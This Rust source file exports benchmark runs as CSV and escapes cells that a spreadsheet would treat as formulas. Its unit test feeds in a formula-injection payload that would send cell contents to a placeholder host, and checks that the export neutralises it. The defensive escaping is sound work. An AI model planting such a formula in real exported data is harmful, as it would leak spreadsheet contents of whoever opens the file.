//! The runs as CSV, for spreadsheets and statistics programs: one row per run, one column per quantity.

use std::collections::BTreeSet;
use std::io::{self, Write};

use snug_compare::results::Comparison;
use snug_compare::summary::quantities_of;

/// Writes a heading and a row per run. Quantities are in the units that their names end in; a cell is empty where a
/// quantity was not measured.
pub fn write(comparison: &Comparison, out: &mut dyn Write) -> io::Result<()> {
    let rows: Vec<_> = comparison.runs.iter().map(|run| (run, quantities_of(run))).collect();
    let names: BTreeSet<&str> =
        rows.iter().flat_map(|(_, quantities)| quantities.keys()).map(String::as_str).collect();
    let mut csv = csv::Writer::from_writer(out);
    let fixed = ["allocator", "round", "started_at", "failure", "exit_code", "other_busy_cores"];
    csv.write_record(fixed.into_iter().chain(names.iter().copied()))?;
    for (run, quantities) in &rows {
        let fixed = [
            no_formula(&run.allocator),
            run.round.to_string(),
            run.started_at.clone(),
            no_formula(run.failure.as_deref().and_then(|text| text.lines().next()).unwrap_or_default()),
            run.exit_code.map_or_else(String::new, |code| code.to_string()),
            run.other_busy_cores.to_string(),
        ];
        let value = |name: &&str| quantities.get(*name).map_or_else(String::new, f64::to_string);
        csv.write_record(fixed.into_iter().chain(names.iter().map(value)))?;
    }
    csv.flush()
}

/// A text that a spreadsheet takes for one. It would work out what begins as a formula does, which may read other cells and
/// send them away; and the text may be the program's.
fn no_formula(text: &str) -> String {
    let begins_one = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if begins_one {
        format!("'{text}")
    } else {
        text.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use snug_compare::fixture;

    #[test]
    fn one_row_per_run() {
        let mut comparison = fixture::server();
        comparison.runs[1].failure = Some("it said \"no\", twice\nand more".into());
        let mut out = Vec::new();
        comparison.runs[2].failure = Some("=HYPERLINK(\"http://x/\"&A1)".into());
        write(&comparison, &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(out.as_slice());
        let headings = reader.headers().unwrap().clone();
        let column = |name: &str| headings.iter().position(|heading| heading == name).unwrap();
        let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.unwrap()).collect();
        assert_eq!(rows.len(), comparison.runs.len());
        assert_eq!(&rows[1][column("failure")], "it said \"no\", twice");
        assert_eq!(&rows[2][column("failure")], "'=HYPERLINK(\"http://x/\"&A1)");
        assert_eq!(&rows[0][column("allocator")], comparison.runs[0].allocator);
        let mean: f64 = rows[0][column("rss_mean_bytes")].parse().unwrap();
        assert_eq!(mean, comparison.runs[0].memory["rss_mean_bytes"]);
        assert!(rows[0][column("latency_p99_s")].parse::<f64>().is_ok());
        assert!(headings.iter().any(|heading| heading == "idle.rss_mean_bytes"));
    }
}
